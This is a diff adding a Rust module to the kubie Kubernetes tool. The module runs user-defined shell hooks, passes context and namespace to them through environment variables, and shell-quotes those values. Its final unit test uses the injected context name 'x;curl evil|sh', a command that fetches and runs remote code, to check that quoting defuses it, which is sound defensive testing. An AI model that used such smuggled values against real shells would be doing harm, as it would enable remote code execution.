@@ -0,0 +1,109 @@
+use std::env;
+use std::ffi::OsString;
+use std::process::{Command, ExitStatus, Stdio};
+
+use anyhow::{bail, Context, Result};
+
+use crate::kubeconfig::KubeConfig;
+use crate::output;
+use crate::shell;
+use crate::vars;
+
+/// Information about the kubie shell given to hooks, through environment variables and
+/// the `{context}` and `{namespace}` placeholders of the hook command.
+#[derive(Debug, Default, Clone)]
+pub struct HookEnv {
+    pub context: String,
+    pub namespace: Option<String>,
+    pub kubeconfig: Option<OsString>,
+    pub depth: u32,
+    pub session_id: Option<String>,
+}
+
+impl HookEnv {
+    /// Information of the current kubie shell for the given kubeconfig.
+    pub fn current(config: &KubeConfig) -> HookEnv {
+        HookEnv {
+            context: config.contexts[0].name.clone(),
+            namespace: config.contexts[0].context.namespace.clone(),
+            kubeconfig: env::var_os("KUBIE_KUBECONFIG"),
+            depth: vars::get_depth(),
+            session_id: vars::get_session_id(),
+        }
+    }
+
+    pub fn vars(&self) -> Vec<(&'static str, OsString)> {
+        vec![
+            ("KUBIE_CONTEXT", self.context.clone().into()),
+            ("KUBIE_NAMESPACE", self.namespace.clone().unwrap_or_default().into()),
+            ("KUBIE_KUBECONFIG", self.kubeconfig.clone().unwrap_or_default()),
+            ("KUBIE_DEPTH", self.depth.to_string().into()),
+            ("KUBIE_SESSION_ID", self.session_id.clone().unwrap_or_default().into()),
+        ]
+    }
+
+    /// Replace the placeholders of the hook command. The names are quoted unless they only contain
+    /// characters which the shell reads as is, since kubeconfigs shared by others can name contexts
+    /// anything.
+    pub fn expand(&self, hook: &str) -> String {
+        hook.replace("{context}", &shell::quote_if_needed(&self.context))
+            .replace(
+                "{namespace}",
+                &shell::quote_if_needed(self.namespace.as_deref().unwrap_or("")),
+            )
+    }
+}
+
+/// Output of the hooks, left out with `--quiet` like the messages of kubie. Their stderr is kept.
+fn stdout() -> Stdio {
+    if output::quiet() {
+        Stdio::null()
+    } else {
+        Stdio::inherit()
+    }
+}
+
+fn command(hook: &str, env: &HookEnv, extra: &[(&str, &str)]) -> Command {
+    let mut cmd = Command::new("sh");
+    cmd.arg("-c").arg(env.expand(hook));
+    cmd.envs(env.vars());
+    cmd.envs(extra.iter().copied());
+    cmd.stdout(stdout());
+    cmd
+}
+
+/// Run a hook command with `sh`. `extra` variables are added to the hook's environment.
+pub fn run(hook: &str, env: &HookEnv, extra: &[(&str, &str)]) -> Result<ExitStatus> {
+    command(hook, env, extra).status().context("Could not run hook")
+}
+
+/// Run a hook which can veto an action, returning an error containing the hook's stderr if it fails.
+pub fn run_check(name: &str, hook: &str, env: &HookEnv) -> Result<()> {
+    let result = command(hook, env, &[])
+        .stdout(stdout())
+        .stderr(Stdio::piped())
+        .output()
+        .context("Could not run hook")?;
+
+    if !result.status.success() {
+        let stderr = String::from_utf8_lossy(&result.stderr);
+        bail!("{} hook failed ({}):\n{}", name, result.status, stderr.trim_end());
+    }
+    Ok(())
+}
+
+#[test]
+fn test_expand() {
+    let env = HookEnv {
+        context: "prod".into(),
+        namespace: Some("web".into()),
+        ..Default::default()
+    };
+    assert_eq!(env.expand("echo {context}/{namespace}"), "echo prod/web");
+
+    let env = HookEnv {
+        context: "x;curl evil|sh".into(),
+        ..Default::default()
+    };
+    assert_eq!(env.expand("echo {context} {namespace}"), "echo 'x;curl evil|sh' ''");
+}